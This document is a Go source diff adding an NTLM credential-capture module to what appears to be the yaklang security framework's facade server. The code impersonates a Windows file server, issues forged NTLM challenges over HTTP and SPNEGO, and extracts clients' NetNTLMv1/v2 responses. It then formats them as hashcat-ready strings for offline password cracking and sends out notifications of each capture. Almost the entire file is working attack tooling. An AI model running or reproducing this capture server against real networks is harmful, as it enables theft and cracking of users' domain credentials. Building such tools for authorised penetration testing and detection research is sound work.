@@ -0,0 +1,292 @@
+package facades
+
+import (
+	"bufio"
+	"bytes"
+	"crypto/rand"
+	"encoding/asn1"
+	"encoding/binary"
+	"fmt"
+	"net"
+	"net/http"
+	"strings"
+	"time"
+	"unicode/utf16"
+
+	protocol_impl "github.com/yaklang/yaklang/common/bin-parser/protocol-impl"
+	"github.com/yaklang/yaklang/common/utils"
+	"github.com/yaklang/yaklang/common/yak/yaklib/codec"
+)
+
+const (
+	ntlmNegotiateUnicode          uint32 = 0x00000001
+	ntlmRequestTarget             uint32 = 0x00000004
+	ntlmNegotiateNTLM             uint32 = 0x00000200
+	ntlmNegotiateAlwaysSign       uint32 = 0x00008000
+	ntlmTargetTypeDomain          uint32 = 0x00010000
+	ntlmNegotiateExtendedSecurity uint32 = 0x00080000
+	ntlmNegotiateTargetInfo       uint32 = 0x00800000
+	ntlmNegotiateVersion          uint32 = 0x02000000
+	ntlmNegotiate128              uint32 = 0x20000000
+	ntlmNegotiateKeyExchange      uint32 = 0x40000000
+	ntlmNegotiate56               uint32 = 0x80000000
+
+	ntlmDefaultDomain   = "WORKGROUP"
+	ntlmDefaultComputer = "FILESERVER"
+)
+
+var (
+	ntlmSignature = []byte("NTLMSSP\x00")
+	// 1.3.6.1.5.5.2 和 1.3.6.1.4.1.311.2.2.10
+	spnegoOID  = asn1.ObjectIdentifier{1, 3, 6, 1, 5, 5, 2}
+	ntlmSSPOID = asn1.ObjectIdentifier{1, 3, 6, 1, 4, 1, 311, 2, 2, 10}
+)
+
+// NTLMHash 是从 NTLM 认证中捕获的 NetNTLMv1 / NetNTLMv2 响应
+type NTLMHash struct {
+	// NetNTLMv1 或者 NetNTLMv2
+	Version     string
+	User        string
+	Domain      string
+	Workstation string
+	// Hashcat 是 hashcat 可以直接使用的格式，NetNTLMv1 对应 -m 5500，NetNTLMv2 对应 -m 5600
+	Hashcat string
+}
+
+func (h *NTLMHash) String() string {
+	return fmt.Sprintf("%v %v\\%v (%v)", h.Version, h.Domain, h.User, h.Workstation)
+}
+
+// ntlmCapture 完成一次 NTLM 质询，每个连接使用一个
+type ntlmCapture struct {
+	challenge []byte
+	domain    string
+	computer  string
+	unicode   bool
+}
+
+func (f *FacadeServer) newNTLMCapture() *ntlmCapture {
+	c := &ntlmCapture{domain: f.ntlmDomain, computer: ntlmDefaultComputer}
+	if c.domain == "" {
+		c.domain = ntlmDefaultDomain
+	}
+	if len(f.ntlmChallenge) == 8 {
+		c.challenge = f.ntlmChallenge
+	} else {
+		c.challenge = make([]byte, 8)
+		rand.Read(c.challenge)
+	}
+	return c
+}
+
+// findNTLMMessage 从安全缓冲区（可能是 SPNEGO 包装）中找到 NTLMSSP 消息及其类型
+func findNTLMMessage(blob []byte) ([]byte, uint32) {
+	idx := bytes.Index(blob, ntlmSignature)
+	if idx < 0 || len(blob) < idx+12 {
+		return nil, 0
+	}
+	msg := blob[idx:]
+	return msg, binary.LittleEndian.Uint32(msg[8:12])
+}
+
+func ntlmUTF16(s string) []byte {
+	var buf []byte
+	for _, r := range utf16.Encode([]rune(s)) {
+		buf = binary.LittleEndian.AppendUint16(buf, r)
+	}
+	return buf
+}
+
+func ntlmDecodeString(b []byte, unicode bool) string {
+	if !unicode {
+		return string(b)
+	}
+	u := make([]uint16, len(b)/2)
+	for i := range u {
+		u[i] = binary.LittleEndian.Uint16(b[i*2:])
+	}
+	return string(utf16.Decode(u))
+}
+
+func ntlmFieldValue(msg []byte, field protocol_impl.Field) []byte {
+	start, end := int(field.BufferOffset), int(field.BufferOffset)+int(field.Length)
+	if field.Length == 0 || start < 0 || end > len(msg) {
+		return nil
+	}
+	return msg[start:end]
+}
+
+func ntlmAVPair(id uint16, value []byte) []byte {
+	buf := binary.LittleEndian.AppendUint16(nil, id)
+	buf = binary.LittleEndian.AppendUint16(buf, uint16(len(value)))
+	return append(buf, value...)
+}
+
+// Challenge 根据客户端的 NEGOTIATE 消息生成 CHALLENGE 消息
+func (c *ntlmCapture) Challenge(negotiate []byte) ([]byte, error) {
+	clientFlags := ntlmNegotiateUnicode | ntlmNegotiateExtendedSecurity | ntlmNegotiate128 | ntlmNegotiate56
+	if msg, err := protocol_impl.ParseNegotiateMessage(negotiate); err == nil {
+		clientFlags = msg.NegotiateFlags
+	}
+	c.unicode = clientFlags&ntlmNegotiateUnicode != 0
+
+	flags := ntlmRequestTarget | ntlmNegotiateNTLM | ntlmNegotiateAlwaysSign | ntlmTargetTypeDomain |
+		ntlmNegotiateTargetInfo | ntlmNegotiateVersion
+	flags |= clientFlags & (ntlmNegotiateUnicode | ntlmNegotiateExtendedSecurity | ntlmNegotiate128 | ntlmNegotiate56 | ntlmNegotiateKeyExchange)
+
+	encode := func(s string) []byte {
+		if c.unicode {
+			return ntlmUTF16(s)
+		}
+		return []byte(s)
+	}
+	dnsDomain := strings.ToLower(c.domain) + ".local"
+	timestamp := binary.LittleEndian.AppendUint64(nil, uint64(time.Now().UnixNano()/100+116444736000000000))
+	var targetInfo []byte
+	targetInfo = append(targetInfo, ntlmAVPair(2, ntlmUTF16(c.domain))...)
+	targetInfo = append(targetInfo, ntlmAVPair(1, ntlmUTF16(c.computer))...)
+	targetInfo = append(targetInfo, ntlmAVPair(4, ntlmUTF16(dnsDomain))...)
+	targetInfo = append(targetInfo, ntlmAVPair(3, ntlmUTF16(strings.ToLower(c.computer)+"."+dnsDomain))...)
+	targetInfo = append(targetInfo, ntlmAVPair(7, timestamp)...)
+	targetInfo = append(targetInfo, ntlmAVPair(0, nil)...)
+
+	challenge := protocol_impl.NewChallengeMessage()
+	copy(challenge.Signature[:], ntlmSignature)
+	challenge.MessageType = 2
+	challenge.NegotiateFlags = flags
+	copy(challenge.ServerChallenge[:], c.challenge)
+	challenge.TargetNameFields = challenge.NewField(encode(c.domain))
+	challenge.TargetInfoFields = challenge.NewField(targetInfo)
+	challenge.Version = protocol_impl.Version{ProductMajorVersion: 10, ProductBuild: 17763, NTLMRevisionCurrent: 15}
+	return challenge.Marshal()
+}
+
+// Authenticate 从 AUTHENTICATE 消息中提取 NetNTLM 响应，匿名认证返回 nil
+func (c *ntlmCapture) Authenticate(authenticate []byte) (*NTLMHash, error) {
+	if len(authenticate) < 64 {
+		return nil, utils.Errorf("ntlm authenticate message too short: %v", len(authenticate))
+	}
+	// 没有 VERSION 和 MIC 的旧客户端消息头只有 64 字节，补齐之后再解析，字段仍然从原始消息中读取
+	header := authenticate
+	if len(header) < 88 {
+		header = append(append([]byte{}, authenticate...), make([]byte, 88-len(authenticate))...)
+	}
+	msg, err := protocol_impl.ParseAuthenticationMessage(header)
+	if err != nil {
+		return nil, utils.Errorf("parse ntlm authenticate message failed: %v", err)
+	}
+	unicode := c.unicode || binary.LittleEndian.Uint32(msg.NegotiateFlags[:])&ntlmNegotiateUnicode != 0
+	lm := ntlmFieldValue(authenticate, msg.LmChallengeResponseFields)
+	nt := ntlmFieldValue(authenticate, msg.NtChallengeResponseFields)
+	hash := &NTLMHash{
+		User:        ntlmDecodeString(ntlmFieldValue(authenticate, msg.UserNameFields), unicode),
+		Domain:      ntlmDecodeString(ntlmFieldValue(authenticate, msg.DomainNameFields), unicode),
+		Workstation: ntlmDecodeString(ntlmFieldValue(authenticate, msg.WorkstationFields), unicode),
+	}
+	switch {
+	case hash.User == "" && len(nt) == 0:
+		return nil, nil
+	case len(nt) == 24:
+		hash.Version = "NetNTLMv1"
+		hash.Hashcat = fmt.Sprintf("%s::%s:%x:%x:%x", hash.User, hash.Domain, lm, nt, c.challenge)
+	case len(nt) > 24:
+		hash.Version = "NetNTLMv2"
+		hash.Hashcat = fmt.Sprintf("%s::%s:%x:%x:%x", hash.User, hash.Domain, c.challenge, nt[:16], nt[16:])
+	default:
+		return nil, utils.Errorf("unexpected ntlm response length: %v", len(nt))
+	}
+	return hash, nil
+}
+
+func asn1Wrap(class, tag int, compound bool, content []byte) []byte {
+	raw, _ := asn1.Marshal(asn1.RawValue{Class: class, Tag: tag, IsCompound: compound, Bytes: content})
+	return raw
+}
+
+func asn1Concat(parts ...[]byte) []byte {
+	return bytes.Join(parts, nil)
+}
+
+// spnegoNegTokenInit 是 SMB2 NEGOTIATE 响应中的安全缓冲区，只提供 NTLMSSP
+func spnegoNegTokenInit() []byte {
+	spnego, _ := asn1.Marshal(spnegoOID)
+	ntlmssp, _ := asn1.Marshal(ntlmSSPOID)
+	mechTypes := asn1Wrap(asn1.ClassContextSpecific, 0, true, asn1Wrap(asn1.ClassUniversal, asn1.TagSequence, true, ntlmssp))
+	negTokenInit := asn1Wrap(asn1.ClassContextSpecific, 0, true, asn1Wrap(asn1.ClassUniversal, asn1.TagSequence, true, mechTypes))
+	return asn1Wrap(asn1.ClassApplication, 0, true, asn1Concat(spnego, negTokenInit))
+}
+
+// spnegoNegTokenResp 用 accept-incomplete 状态包装 NTLM CHALLENGE 消息
+func spnegoNegTokenResp(token []byte) []byte {
+	ntlmssp, _ := asn1.Marshal(ntlmSSPOID)
+	negState := asn1Wrap(asn1.ClassContextSpecific, 0, true, []byte{asn1.TagEnum, 0x01, 0x01})
+	supportedMech := asn1Wrap(asn1.ClassContextSpecific, 1, true, ntlmssp)
+	responseToken := asn1Wrap(asn1.ClassContextSpecific, 2, true, asn1Wrap(asn1.ClassUniversal, asn1.TagOctetString, false, token))
+	return asn1Wrap(asn1.ClassContextSpecific, 1, true, asn1Wrap(asn1.ClassUniversal, asn1.TagSequence, true, asn1Concat(negState, supportedMech, responseToken)))
+}
+
+func (f *FacadeServer) triggerNTLMNotification(conn net.Conn, token string, hash *NTLMHash) {
+	f.triggerNotificationEx(NTLMMsgFlag, conn, token, []byte(hash.Hashcat), hash.String())
+}
+
+const httpNTLMRequired = "HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: NTLM\r\nWWW-Authenticate: Negotiate\r\nConnection: keep-alive\r\nContent-Length: 0\r\n\r\n"
+
+// parseHTTPNTLMAuth 解析 Authorization 头中的 NTLM / Negotiate 令牌
+func parseHTTPNTLMAuth(header string) (scheme string, blob []byte, msg []byte, typ uint32) {
+	scheme, token, ok := strings.Cut(strings.TrimSpace(header), " ")
+	if !ok || !(strings.EqualFold(scheme, "NTLM") || strings.EqualFold(scheme, "Negotiate")) {
+		return "", nil, nil, 0
+	}
+	blob, err := codec.DecodeBase64(strings.TrimSpace(token))
+	if err != nil {
+		return "", nil, nil, 0
+	}
+	msg, typ = findNTLMMessage(blob)
+	return scheme, blob, msg, typ
+}
+
+// serveHTTPNTLM 与带有 NTLM 认证头的 HTTP 客户端完成质询并捕获 NetNTLM 哈希
+// 请求中没有 NTLM 令牌时返回 false，由普通的 HTTP 资源处理
+func (f *FacadeServer) serveHTTPNTLM(conn *utils.BufferedPeekableConn, reader *bufio.Reader, req *http.Request, msgType string) (bool, error) {
+	capture := f.newNTLMCapture()
+	for round := 0; round < 3; round++ {
+		scheme, blob, msg, typ := parseHTTPNTLMAuth(req.Header.Get("Authorization"))
+		switch typ {
+		case 1:
+			challenge, err := capture.Challenge(msg)
+			if err != nil {
+				return true, err
+			}
+			if !bytes.HasPrefix(blob, ntlmSignature) {
+				challenge = spnegoNegTokenResp(challenge)
+			}
+			conn.SetDeadline(time.Now().Add(3 * time.Second))
+			conn.Write([]byte(fmt.Sprintf("HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: %s %s\r\nConnection: keep-alive\r\nContent-Length: 0\r\n\r\n", scheme, codec.EncodeBase64(challenge))))
+			next, err := utils.ReadHTTPRequestFromBufioReader(reader)
+			if err != nil {
+				return true, err
+			}
+			req = next
+		case 3:
+			hash, err := capture.Authenticate(msg)
+			if err != nil {
+				return true, err
+			}
+			reqRaw, _ := utils.HttpDumpWithBody(req, true)
+			f.triggerNotificationEx(msgType, conn.GetOriginConn(), req.RequestURI, reqRaw, "ntlm authenticate")
+			if hash != nil {
+				f.triggerNTLMNotification(conn.GetOriginConn(), req.RequestURI, hash)
+			}
+			conn.SetDeadline(time.Now().Add(3 * time.Second))
+			conn.Write([]byte(defaultHTTPFallback))
+			conn.Close()
+			return true, nil
+		default:
+			if round == 0 {
+				return false, nil
+			}
+			return true, utils.Error("ntlm handshake interrupted: no authenticate message")
+		}
+	}
+	return true, utils.Error("too many ntlm negotiate requests")
+}